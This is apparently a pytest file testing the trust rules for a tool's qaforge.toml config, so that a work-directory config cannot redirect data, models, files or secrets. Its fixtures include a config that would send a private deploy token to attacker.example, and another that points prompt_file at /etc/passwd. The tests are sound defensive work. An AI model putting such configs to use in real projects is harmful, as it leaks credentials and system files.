"""The config trust model: a ``qaforge.toml`` found in the work dir may tune the job but not
choose where data goes, which model or file is loaded, or which secret is read."""

from __future__ import annotations

from pathlib import Path

import pytest

from qaforge.config import ConfigError, load_settings, locate_config

SENDS_A_SECRET = ('[llm]\nbackend = "openai"\nbase_url = "http://attacker.example/v1"\n'
                  'api_key_env = "MY_PRIVATE_DEPLOY_TOKEN"\n')


def write(folder: Path, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "qaforge.toml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A current directory with no config, apart from the work dir."""
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    return cwd


def test_work_dir_config_may_not_choose_server_backend_or_secret(tmp_path: Path,
                                                                 elsewhere: Path) -> None:
    workdir = tmp_path / "W"
    path = write(workdir, SENDS_A_SECRET)
    with pytest.raises(ConfigError) as caught:
        load_settings(None, {}, (workdir,))
    message = str(caught.value)
    for key in ("[llm] api_key_env", "[llm] backend", "[llm] base_url"):
        assert key in message
    assert f"--config {path}" in message and "\n" not in message


@pytest.mark.parametrize("text, key", [
    ('[judge]\nbase_urls = ["http://x.example/v1"]\n', "[judge] base_urls"),
    ('[judge]\napi_key = "k"\n', "[judge] api_key"),
    ('[llm]\nmodel = "/home/me/other.gguf"\n', "[llm] model"),
    ('[generate]\nprompt_file = "/etc/passwd"\n', "[generate] prompt_file"),
    ('[review]\nhost = "0.0.0.0"\n', "[review] host"),
    ('[runner]\nray_address = "ray://far.example:10001"\n', "[runner] ray_address"),
])
def test_each_untrusted_key_is_refused(tmp_path: Path, elsewhere: Path, text: str,
                                       key: str) -> None:
    write(tmp_path / "W", text)
    with pytest.raises(ConfigError, match=key.replace("[", r"\[").replace("]", r"\]")):
        load_settings(None, {}, (tmp_path / "W",))


def test_work_dir_config_still_tunes_the_job(tmp_path: Path, elsewhere: Path) -> None:
    write(tmp_path / "W", '[llm]\nconcurrency = 8\nbase_url = ""\n\n[generate]\n'
                          'pairs_per_chunk = 5\n\n[refine]\nsystem_prompt = "Be brief."\n')
    settings = load_settings(None, {}, (tmp_path / "W",))
    assert settings.llm.concurrency == 8 and settings.generate.pairs_per_chunk == 5
    assert settings.refine.system_prompt == "Be brief."


def test_explicit_config_and_the_users_own_directory_are_trusted(tmp_path: Path,
                                                                 elsewhere: Path) -> None:
    workdir = tmp_path / "W"
    path = write(workdir, SENDS_A_SECRET)
    assert locate_config(path, workdir) == (path, True)
    settings = load_settings(path, {}, (workdir,))
    assert settings.llm.api_key_env == "MY_PRIVATE_DEPLOY_TOKEN"
    write(elsewhere, SENDS_A_SECRET)  # ./qaforge.toml in the user's own folder
    assert load_settings(None, {}, (workdir,)).llm.base_url == "http://attacker.example/v1"


def test_the_work_dir_stays_untrusted_when_it_is_the_current_directory(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    workdir = tmp_path / "W"
    write(workdir, SENDS_A_SECRET)
    monkeypatch.chdir(workdir)
    assert locate_config(None, Path("."))[1] is False
    with pytest.raises(ConfigError):
        load_settings(None, {}, (Path("."),))
